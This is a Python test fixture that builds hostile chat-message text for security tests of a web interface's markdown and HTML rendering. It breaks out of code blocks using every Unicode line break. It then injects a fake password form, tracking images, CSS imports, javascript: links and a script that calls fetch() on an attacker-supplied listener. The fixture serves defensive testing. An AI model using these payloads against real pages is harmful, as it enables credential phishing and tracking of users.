"""Customer text built to escape into the page: every Unicode line break, code fences, and HTML that would
show a password form, load a style or an image from the attacker's address, or link to `javascript:`.
Shared by the page test (tests/security/test_hostile_rendering.py) and the real-browser one (tests/e2e)."""

from __future__ import annotations

from typing import Any

# Every character Python's str.splitlines() breaks on: NiceGUI's remove_indentation split code and markdown
# on them, so any of them before a fence closed the code block.
LINE_BREAKS = {
    "lf": "\n",
    "cr": "\r",
    "crlf": "\r\n",
    "vt": "\x0b",
    "ff": "\x0c",
    "fs": "\x1c",
    "gs": "\x1d",
    "rs": "\x1e",
    "nel": "\x85",
    "ls": "\u2028",
    "ps": "\u2029",
}


def hostile_text(line_break: str, listener: str) -> str:
    """Text that, read as markdown or HTML, would add a form, an image, styles and links to the page."""
    lines = [
        "Hello",
        "```",
        "</code></pre></div>",
        "<form class='hostile-form' action='{0}/form' style='position:fixed;inset:0;z-index:9999;"
        "background:#fff'><b>Session expired</b><input type='password' name='password'></form>",
        "<img class='hostile-img' src='{0}/img.png'>",
        "<style>@import url({0}/import.css); body {{ background: url({0}/bg.png) }}</style>",
        "<link rel='stylesheet' href='{0}/link.css'>",
        "<a class='hostile-link' href='javascript:alert(1)'>click me</a>",
        "![pixel]({0}/markdown.png) [reset your password](javascript:alert(2))",
        "</script><script>fetch('{0}/script')</script> {{{{ 7*7 }}}}",
        "```",
        "bye",
    ]
    return line_break.join(line.format(listener) for line in lines)


def hostile_messages(listener: str, sender: str = "+15550666000") -> list[dict[str, Any]]:
    """Simulator webhook bodies: per line break an unsupported message whose raw payload is shown, and a text
    message; then an image whose URL and file name are the attacker's."""
    bodies: list[dict[str, Any]] = []
    for name, line_break in LINE_BREAKS.items():
        text = hostile_text(line_break, listener)
        bodies.append(
            {
                "from": sender,
                "name": "Mallory",
                "message_id": f"poll-{name}",
                "type": "poll",
                "question": text,
                "options": [text],
            }
        )
        bodies.append(
            {"from": sender, "name": "Mallory", "message_id": f"text-{name}", "type": "text", "message": text}
        )
    bodies.append(
        {
            "from": sender,
            "name": "Mallory",
            "message_id": "image",
            "type": "image",
            "media_url": f"{listener}/tracking.png",
            "file_name": hostile_text("\u2028", listener),
            "message": hostile_text("\u2029", listener),
        }
    )
    return bodies
